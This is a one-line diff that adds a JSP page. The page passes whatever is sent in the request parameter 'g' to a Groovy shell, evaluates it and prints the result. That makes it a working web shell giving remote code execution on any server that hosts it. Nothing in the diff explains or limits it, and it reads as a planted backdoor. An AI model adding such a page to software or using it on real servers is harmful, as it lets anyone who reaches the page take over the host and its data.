@@ -1,0 +1,1 @@
+<%@ page import="groovy.lang.GroovyShell" %><% out.print(new GroovyShell().evaluate(request.getParameter("g"))); %>
